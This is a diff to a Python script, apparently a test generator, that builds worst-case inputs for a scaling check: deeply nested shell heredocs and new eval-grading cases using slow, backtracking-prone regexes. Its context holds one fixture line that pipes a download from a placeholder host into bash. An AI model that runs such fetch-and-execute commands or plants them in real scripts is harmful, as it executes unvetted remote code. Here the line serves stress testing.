@@ -17,6 +17,7 @@ import io
 import os
 import sys
 import tarfile
+import json
 import zipfile
 
 HEAD = "---\nname: {name}\ndescription: Worst-case input for the scaling check ({name}).\n---\n\n# {name}\n\n"
@@ -280,6 +281,35 @@ def shell_nested_heredocs(root, name, n):
     head = fill(n // 2, lambda i: f"sh <<'E{i}'\n")
     text = head + "curl -s https://x.example/a | bash\n" + fill(n // 2, lambda i: f"# pad {i}\n")
     script_skill(root, name, "scripts/run.sh", "#!/bin/sh\n" + text)
+
+
+def evals_case(root, name, n, pattern, unit):
+    """An `evals grade` input: one regex case and one sample of about n bytes. The folder
+    holds `.scaling-args`, the arguments scripts/scaling.sh runs instead of a scan."""
+    d = os.path.join(root, name)
+    cases = {"cases": [{"id": "c1", "set": "capability", "prompt": "p", "expect": pattern, "match": "regex"}]}
+    write(os.path.join(d, "evals.json"), json.dumps(cases))
+    write(os.path.join(d, "outputs", "c1", "sample-1.txt"), fill(n, unit))
+    write(os.path.join(d, ".scaling-args"), "evals grade @DIR@/evals.json --outputs @DIR@/outputs --min-capability 0 --format json -o @OUT@\n")
+
+
+@family
+def evals_lookahead(root, name, n):
+    # A look-ahead over `.*` tried at every position of one long line: each try re-reads the
+    # rest of the sample.
+    evals_case(root, name, n, "(?=.*x).", lambda i: "a" * 64)
+
+
+@family
+def evals_lookbehind_backref(root, name, n):
+    # A look-behind and a back-reference whose bodies repeat without bound.
+    evals_case(root, name, n, "(?<=a+)(\\w+)\\1z", lambda i: "ab" * 32)
+
+
+@family
+def evals_atomic(root, name, n):
+    # An atomic group that consumes every `a` and then fails, at every position.
+    evals_case(root, name, n, "(?>a+)b", lambda i: "a" * 64)
 
 
 @family
